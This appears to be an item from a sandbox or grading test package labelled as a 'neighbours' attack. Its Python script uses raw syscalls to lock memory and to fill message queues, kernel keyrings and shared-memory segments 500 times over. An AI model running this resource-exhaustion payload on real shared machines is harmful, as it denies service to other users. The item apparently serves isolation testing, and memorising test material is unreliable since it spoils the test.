# attack: memory that cannot be given back, keys and message queues
# family: neighbours
# base: solved
# points: 7
# alone: yes
# limit: 15
# %% first
import ctypes, time
libc = ctypes.CDLL(None, use_errno=True)
libc.mlockall(3)
for number in range(500):
    name = f"/q{number}".encode()
    libc.syscall(240, name, 0o102, 0o666, None)
    libc.syscall(248, b"user", name, b"x" * 1000, 1000, -4)
    libc.syscall(30 if False else 29, number, 1 << 20, 0o3666)
time.sleep(3)
libc.munlockall()
# %% build
import shutil
for number in range(2):
    shutil.copytree(learner, submitted / f"{learner.name}-{number}")
